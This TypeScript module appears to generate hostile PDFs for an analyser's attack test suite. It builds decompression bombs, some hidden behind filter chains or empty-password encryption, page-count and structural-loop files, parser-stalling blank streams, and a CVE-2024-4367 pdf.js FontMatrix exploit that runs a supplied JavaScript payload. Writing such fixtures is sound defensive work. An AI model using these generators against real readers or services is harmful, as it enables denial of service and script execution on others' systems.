import crypto from 'node:crypto';
import zlib from 'node:zlib';

/**
 * Hostile PDFs for the attack suite, made here rather than downloaded: each aims at one bound of
 * the document analysis (unpacked size, page count, cross-reference and object cycles, script in a
 * font matrix). They are valid enough for a PDF reader to get to the hostile part.
 */

/** One object's body (without `n 0 obj … endobj`); streams carry their data as bytes. */
type PdfObject = string | { dictionary: string; data: Buffer };

const latin1 = (text: string) => Buffer.from(text, 'latin1');

function objectBytes(number: number, object: PdfObject): Buffer {
  if (typeof object === 'string') return latin1(`${String(number)} 0 obj\n${object}\nendobj\n`);
  return Buffer.concat([
    latin1(
      `${String(number)} 0 obj\n<< ${object.dictionary} /Length ${String(object.data.length)} >>\nstream\n`,
    ),
    object.data,
    latin1('\nendstream\nendobj\n'),
  ]);
}

interface Assembled {
  bytes: Buffer;
  /** Where each object (1-based, index 0 unused) starts. */
  offsets: number[];
}

function assembleBody(objects: readonly PdfObject[]): Assembled {
  const parts: Buffer[] = [latin1('%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n')];
  let length = parts[0]?.length ?? 0;
  const offsets = [0];
  objects.forEach((object, index) => {
    offsets.push(length);
    const part = objectBytes(index + 1, object);
    parts.push(part);
    length += part.length;
  });
  return { bytes: Buffer.concat(parts), offsets };
}

function xrefTable(offsets: readonly number[]): string {
  const rows = offsets
    .slice(1)
    .map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
    .join('');
  return `xref\n0 ${String(offsets.length)}\n0000000000 65535 f \n${rows}`;
}

/**
 * Objects numbered from 1 (the catalog first) with one correct cross-reference table; `trailer`
 * adds entries to the trailer dictionary.
 */
function assemblePdf(objects: readonly PdfObject[], trailer = ''): Buffer {
  const body = assembleBody(objects);
  const size = String(objects.length + 1);
  return Buffer.concat([
    body.bytes,
    latin1(
      `${xrefTable(body.offsets)}trailer\n<< /Size ${size} /Root 1 0 R${trailer} >>\nstartxref\n${String(body.bytes.length)}\n%%EOF\n`,
    ),
  ]);
}

const PAGE_BOX = '/MediaBox [0 0 595 842]';

/** Catalog, page tree and one page showing `content` with Helvetica as /F1. */
function onePage(content: PdfObject, extraObjects: readonly PdfObject[] = []): PdfObject[] {
  return [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
    content,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...extraObjects,
  ];
}

/** Bytes of zeros each repeated block of the bomb unpacks to. */
const BOMB_BLOCK = 16 * 1024 * 1024;

function adler32OfZeros(length: number): number {
  // Over zeros the running sum `a` stays 1, so `b` grows by one per byte.
  const b = length % 65_521;
  return ((b << 16) | 1) >>> 0;
}

/**
 * A zlib stream that unpacks to `inflatedBytes` zeros (rounded up to 16 MiB) at about 1:1000.
 * zlib is run once on 16 MiB; a full flush ends that output on a byte boundary with no references
 * back, so the same bytes can be repeated to reach gigabytes without ever holding them.
 */
export function deflateBomb(inflatedBytes: number): Buffer {
  const blocks = Math.max(1, Math.ceil(inflatedBytes / BOMB_BLOCK));
  const block = zlib.deflateRawSync(Buffer.alloc(BOMB_BLOCK), {
    level: 9,
    finishFlush: zlib.constants.Z_FULL_FLUSH,
  });
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32OfZeros(blocks * BOMB_BLOCK));
  return Buffer.concat([
    // zlib header: deflate, 32 KiB window, best compression.
    Buffer.from([0x78, 0xda]),
    ...Array.from({ length: blocks }, () => block),
    // The last block: fixed codes, end of block at once.
    Buffer.from([0x03, 0x00]),
    checksum,
  ]);
}

/** Filters a bomb's stream can be written with. */
export type BombFilter =
  'FlateDecode' | 'LZWDecode' | 'RunLengthDecode' | 'ASCIIHexDecode' | 'ASCII85Decode';

/** A run-length stream of `inflatedBytes` zeros (rounded up to 128): 128 zeros per two bytes. */
function runLengthBomb(inflatedBytes: number): Buffer {
  const runs = Math.max(1, Math.ceil(inflatedBytes / 128));
  // 257 - 129 = 128 copies of the byte after it.
  const data = Buffer.alloc(runs * 2 + 1);
  for (let run = 0; run < runs; run += 1) data[run * 2] = 129;
  data[runs * 2] = 128;
  return data;
}

/** Writes LZW codes MSB first, each as wide as a reader with EarlyChange 1 expects it. */
class LzwWriter {
  private readonly bytes: number[] = [];
  private buffer = 0;
  private bits = 0;

  write(code: number, nextCode: number): void {
    const width = Math.min(12, Math.max(9, Math.floor(Math.log2(nextCode)) + 1));
    this.buffer = (this.buffer << width) | code;
    this.bits += width;
    while (this.bits >= 8) {
      this.bits -= 8;
      this.bytes.push((this.buffer >> this.bits) & 0xff);
    }
    this.buffer &= (1 << this.bits) - 1;
  }

  end(nextCode: number): Buffer {
    this.write(257, nextCode);
    if (this.bits > 0) this.bytes.push((this.buffer << (8 - this.bits)) & 0xff);
    return Buffer.from(this.bytes);
  }
}

/** The last code an LZW table of 12-bit codes holds before it must be cleared. */
const LZW_LAST_CODE = 4094;

/**
 * An LZW stream of at least `inflatedBytes` zeros: after each clear the codes 258, 259, … each
 * stand for one zero more than the last (a reader builds them as it goes), so a table's worth of
 * codes (about 5 KB) spells about 7 MB.
 */
function lzwBomb(inflatedBytes: number): Buffer {
  const writer = new LzwWriter();
  let written = 0;
  while (written < inflatedBytes) {
    writer.write(0, 258);
    written += 1;
    for (let code = 258; code <= LZW_LAST_CODE; code += 1) {
      writer.write(code, code + 1);
      written += code - 256;
    }
    writer.write(256, LZW_LAST_CODE + 2);
  }
  return writer.end(258);
}

/** LZW (EarlyChange 1) of any bytes, clearing the table when it is full. */
export function encodeLzw(data: Uint8Array): Buffer {
  const writer = new LzwWriter();
  let table = new Map<number, number>();
  let nextCode = 258;
  let current = -1;
  for (const byte of data) {
    if (current === -1) {
      current = byte;
      continue;
    }
    const key = current * 256 + byte;
    const known = table.get(key);
    if (known !== undefined) {
      current = known;
      continue;
    }
    writer.write(current, nextCode);
    table.set(key, nextCode);
    nextCode += 1;
    current = byte;
    if (nextCode > LZW_LAST_CODE) {
      writer.write(256, nextCode);
      table = new Map();
      nextCode = 258;
    }
  }
  if (current !== -1) {
    writer.write(current, nextCode);
    nextCode += 1;
  }
  return writer.end(nextCode);
}

function encodeAscii85(data: Uint8Array): Buffer {
  let text = '';
  for (let at = 0; at < data.length; at += 4) {
    const group = data.subarray(at, at + 4);
    const padded = Buffer.alloc(4);
    padded.set(group);
    let value = padded.readUInt32BE(0);
    if (group.length === 4 && value === 0) {
      text += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let index = 0; index < 5; index += 1) {
      digits.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    text += digits.slice(0, group.length + 1).join('');
  }
  return latin1(`${text}~>`);
}

function encodeRunLength(data: Uint8Array): Buffer {
  const parts: Buffer[] = [];
  for (let at = 0; at < data.length; at += 128) {
    const run = data.subarray(at, at + 128);
    parts.push(Buffer.from([run.length - 1]), Buffer.from(run));
  }
  parts.push(Buffer.from([128]));
  return Buffer.concat(parts);
}

/** `data` written with `filter`, for a reader to undo. */
export function encodeWith(filter: BombFilter, data: Uint8Array): Buffer {
  switch (filter) {
    case 'FlateDecode':
      return zlib.deflateSync(data);
    case 'LZWDecode':
      return encodeLzw(data);
    case 'RunLengthDecode':
      return encodeRunLength(data);
    case 'ASCIIHexDecode':
      return latin1(`${Buffer.from(data).toString('hex')}>`);
    case 'ASCII85Decode':
      return encodeAscii85(data);
  }
}

function bombData(filter: BombFilter, inflatedBytes: number): Buffer {
  switch (filter) {
    case 'FlateDecode':
      return deflateBomb(inflatedBytes);
    case 'LZWDecode':
      return lzwBomb(inflatedBytes);
    case 'RunLengthDecode':
      return runLengthBomb(inflatedBytes);
    case 'ASCIIHexDecode':
    case 'ASCII85Decode':
      throw new Error(`${filter} unpacks to less than it is: it cannot be a bomb`);
  }
}

function rc4(key: Uint8Array, data: Uint8Array): Buffer {
  const state = Array.from({ length: 256 }, (_, index) => index);
  for (let index = 0, mixed = 0; index < 256; index += 1) {
    mixed = (mixed + (state[index] ?? 0) + (key[index % key.length] ?? 0)) & 0xff;
    [state[index], state[mixed]] = [state[mixed] ?? 0, state[index] ?? 0];
  }
  const output = Buffer.alloc(data.length);
  for (let at = 0, i = 0, j = 0; at < data.length; at += 1) {
    i = (i + 1) & 0xff;
    j = (j + (state[i] ?? 0)) & 0xff;
    [state[i], state[j]] = [state[j] ?? 0, state[i] ?? 0];
    output[at] = (data[at] ?? 0) ^ (state[((state[i] ?? 0) + (state[j] ?? 0)) & 0xff] ?? 0);
  }
  return output;
}

/** The standard security handler's padding (PDF 1.7, 7.6.3.3). */
const PASSWORD_PADDING = Buffer.from(
  '28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a',
  'hex',
);

interface Encryption {
  /** The Encrypt dictionary's body. */
  dictionary: string;
  /** The trailer's /ID. */
  id: string;
  /** Encrypts the data of object `number` (generation 0). */
  encrypt(number: number, data: Uint8Array): Buffer;
}

/**
 * RC4 with a 40-bit key and an empty user password (revision 2), as a PDF that opens without
 * asking is encrypted: every reader decrypts it, but its streams look like noise until then.
 */
function emptyPasswordEncryption(): Encryption {
  const owner = crypto.randomBytes(32);
  const fileId = crypto.randomBytes(16);
  const permissions = Buffer.alloc(4);
  permissions.writeInt32LE(-44);
  const key = crypto
    .createHash('md5')
    .update(Buffer.concat([PASSWORD_PADDING, owner, permissions, fileId]))
    .digest()
    .subarray(0, 5);
  const user = rc4(key, PASSWORD_PADDING);
  return {
    dictionary: `<< /Filter /Standard /V 1 /R 2 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> /P -44 >>`,
    id: `[<${fileId.toString('hex')}> <${fileId.toString('hex')}>]`,
    encrypt(number, data) {
      const objectKey = crypto
        .createHash('md5')
        .update(
          Buffer.concat([
            key,
            Buffer.from([number & 0xff, (number >> 8) & 0xff, (number >> 16) & 0xff, 0, 0]),
          ]),
        )
        .digest()
        .subarray(0, key.length + 5);
      return rc4(objectKey, data);
    },
  };
}

export interface DeflateBombOptions {
  /** What the page's content stream unpacks to, in bytes (e.g. 4 GiB). */
  inflatedBytes: number;
  /**
   * The content stream's /Filter, first to last (['FlateDecode'] by default). The last one is the
   * bomb (FlateDecode, LZWDecode or RunLengthDecode); the ones before it wrap it, so that only a
   * reader that runs the whole chain sees its size: ['ASCIIHexDecode', 'FlateDecode'] hides a
   * deflate bomb behind hex.
   */
  filters?: readonly BombFilter[];
  /** Encrypted for an empty password: only a reader that decrypts the stream sees its size. */
  encrypted?: boolean;
}

/** A one-page PDF whose content stream is a decompression bomb. */
export function makeDeflateBombPdf(options: DeflateBombOptions): Buffer {
  const filters = options.filters ?? ['FlateDecode'];
  const [bomb, ...wrappers] = [...filters].reverse();
  if (bomb === undefined) throw new Error('a bomb needs a filter');
  let data = bombData(bomb, options.inflatedBytes);
  for (const wrapper of wrappers) data = encodeWith(wrapper, data);
  const filter =
    filters.length === 1 ? `/${bomb}` : `[${filters.map((name) => `/${name}`).join(' ')}]`;
  if (options.encrypted !== true)
    return assemblePdf(onePage({ dictionary: `/Filter ${filter}`, data }));
  const encryption = emptyPasswordEncryption();
  // The content stream is object 4 (see onePage); the Encrypt dictionary, never encrypted, is 6.
  return assemblePdf(
    onePage({ dictionary: `/Filter ${filter}`, data: encryption.encrypt(4, data) }, [
      encryption.dictionary,
    ]),
    ` /Encrypt 6 0 R /ID ${encryption.id}`,
  );
}

/**
 * A one-page PDF showing `text` in one line, its content stream written with `filters` (first to
 * last, as in /Filter): a harmless document behind the same filter chains as the bombs.
 */
export function makeFilteredTextPdf(text: string, filters: readonly BombFilter[]): Buffer {
  let data: Buffer = latin1(`BT /F1 10 Tf 50 800 Td (${pdfLiteral(text)}) Tj ET`);
  for (const filter of [...filters].reverse()) data = encodeWith(filter, data);
  return assemblePdf(
    onePage({ dictionary: `/Filter [${filters.map((name) => `/${name}`).join(' ')}]`, data }),
  );
}

export interface ManyPagesOptions {
  /** Page objects actually in the file. */
  pages: number;
  /** The page tree's /Count, when it should claim another number than `pages`. */
  claimedPages?: number;
  /** Pages without any text (as scans without a text layer), so that each would need OCR. */
  blank?: boolean;
}

/**
 * A PDF with very many pages (all sharing one content stream with a line of text, so that no page
 * needs OCR, unless `blank`), or one that claims many more than it has.
 */
export function makeManyPagesPdf(options: ManyPagesOptions): Buffer {
  const firstPage = 5;
  const kids = Array.from(
    { length: options.pages },
    (_, index) => `${String(firstPage + index)} 0 R`,
  );
  const objects: PdfObject[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages ${PAGE_BOX} /Resources << /Font << /F1 4 0 R >> >> /Kids [${kids.join(' ')}] /Count ${String(options.claimedPages ?? options.pages)} >>`,
    {
      dictionary: '',
      data: latin1(
        options.blank === true ? '' : 'BT /F1 10 Tf 50 800 Td (One page of very many) Tj ET',
      ),
    },
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  for (let index = 0; index < options.pages; index += 1)
    objects.push('<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>');
  return assemblePdf(objects);
}

/**
 * Loops a reader must notice:
 * - `xref-prev-cycle`: two cross-reference sections whose trailers' /Prev point at each other;
 * - `page-tree-cycle`: a page tree node that lists itself (and its parent) among its kids;
 * - `reference-cycle`: a form XObject that draws itself, a stream whose /Length refers to itself,
 *   and resources and an array that contain themselves.
 */
export type LoopKind = 'xref-prev-cycle' | 'page-tree-cycle' | 'reference-cycle';

const TEXT_LINE = 'BT /F1 10 Tf 50 800 Td (Looping but readable) Tj ET';

function xrefPrevCycle(): Buffer {
  const body = assembleBody(onePage({ dictionary: '', data: latin1(TEXT_LINE) }));
  const size = String(body.offsets.length);
  // Section A describes every object; section B repeats object 1. Each trailer's /Prev names the
  // other, so following /Prev never ends.
  const sectionA = body.bytes.length;
  const tableA = xrefTable(body.offsets);
  const sectionB = sectionA + Buffer.byteLength(tableA, 'latin1') + 200;
  const trailerA = `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${String(sectionB)} >>\n`;
  const padding = ' '.repeat(
    sectionB - sectionA - Buffer.byteLength(tableA + trailerA, 'latin1') - 1,
  );
  const tableB = `xref\n1 1\n${String(body.offsets[1]).padStart(10, '0')} 00000 n \n`;
  const trailerB = `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${String(sectionA)} >>\n`;
  return Buffer.concat([
    body.bytes,
    latin1(`${tableA}${trailerA}${padding}\n${tableB}${trailerB}`),
    latin1(`startxref\n${String(sectionB)}\n%%EOF\n`),
  ]);
}

/** A hostile PDF whose structure loops (see LoopKind). */
export function makeLoopingPdf(kind: LoopKind): Buffer {
  switch (kind) {
    case 'xref-prev-cycle':
      return xrefPrevCycle();
    case 'page-tree-cycle':
      return assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 6 0 R 3 0 R] /Count 3 >>',
        `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
        { dictionary: '', data: latin1(TEXT_LINE) },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R] /Count 2 >>',
      ]);
    case 'reference-cycle':
      return assemblePdf([
        '<< /Type /Catalog /Pages 2 0 R /Loop 7 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources 8 0 R /Contents [4 0 R 9 0 R] >>`,
        { dictionary: '', data: latin1(`${TEXT_LINE} /Fm1 Do`) },
        '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
        {
          dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources 8 0 R',
          data: latin1('/Fm1 Do'),
        },
        '[7 0 R 7 0 R]',
        '<< /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> /Self 8 0 R >>',
        // /Length refers to this very object: reading it needs its own length.
        '<< /Length 9 0 R >>\nstream\nBT ET\nendstream',
      ]);
  }
}

function pdfLiteral(text: string): string {
  return text.replace(/[\\()]/g, (character) => `\\${character}`);
}

/**
 * The proof of concept of CVE-2024-4367: a Type1 font whose /FontMatrix carries a string that
 * pdf.js before 4.2.67 pasted into the glyph-drawing code it compiled with `new Function`, so
 * `payload` (JavaScript) ran when the page was drawn. The page shows one character in that font,
 * too little text for a text layer, so an analyser draws it (for OCR).
 */
export function makeFontMatrixExploitPdf(payload: string): Buffer {
  const matrix = `[1 2 3 4 5 (${pdfLiteral(`0); ${payload}; //`)})]`;
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>`,
    { dictionary: '', data: latin1('BT /F1 48 Tf 100 700 Td (A) Tj ET') },
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix ${matrix} /FirstChar 65 /LastChar 65 /Widths [600] >>`,
  ]);
}

export interface BlankContentOptions {
  /** What each content stream unpacks to: this many spaces (a few hundred kB as Flate). */
  streamBytes: number;
  /** How many such streams the document holds. */
  streams: number;
  /**
   * Where they are drawn: all as one page's /Contents array, one per page, or as form XObjects
   * that one small page draws.
   */
  layout: 'contents-array' | 'pages' | 'forms';
}

/**
 * A small PDF whose drawing instructions are nothing but spaces: each stream is well under the
 * unpacking limits, yet a PDF reader tokenises every space of it (a 490 KB file of four 120 MB
 * streams held the analysis thread for over a minute).
 */
export function makeBlankContentPdf(options: BlankContentOptions): Buffer {
  const data = zlib.deflateSync(Buffer.alloc(options.streamBytes, 0x20), { level: 9 });
  const stream = (dictionary: string): PdfObject => ({
    dictionary: `${dictionary}/Filter /FlateDecode`,
    data,
  });
  const count = options.streams;
  const numbers = (first: number) => Array.from({ length: count }, (_, index) => first + index);
  const refs = (first: number) => numbers(first).map((number) => `${String(number)} 0 R`);
  const page = (contents: string, resources = '') =>
    `<< /Type /Page /Parent 2 0 R ${PAGE_BOX} /Resources << /Font << /F1 3 0 R >>${resources} >> /Contents ${contents} >>`;
  const head = (kids: string[]) => [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${String(kids.length)} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
  ];
  const streams = (dictionary: string) => numbers(0).map(() => stream(dictionary));
  switch (options.layout) {
    case 'contents-array':
      // Objects 1–3, the page as 4, its streams from 5.
      return assemblePdf([...head(['4 0 R']), page(`[${refs(5).join(' ')}]`), ...streams('')]);
    case 'pages':
      // Pages from 4, their streams after them.
      return assemblePdf([
        ...head(refs(4)),
        ...refs(4 + count).map((content) => page(content)),
        ...streams(''),
      ]);
    case 'forms': {
      // The page as 4, its own content as 5, the forms from 6.
      const names = numbers(0).map((index) => `/X${String(index)}`);
      const xobjects = ` /XObject << ${names.map((name, index) => `${name} ${refs(6)[index] ?? ''}`).join(' ')} >>`;
      return assemblePdf([
        ...head(['4 0 R']),
        page('5 0 R', xobjects),
        { dictionary: '', data: latin1(names.map((name) => `${name} Do`).join('\n')) },
        ...streams('/Type /XObject /Subtype /Form /BBox [0 0 595 842] '),
      ]);
    }
  }
}
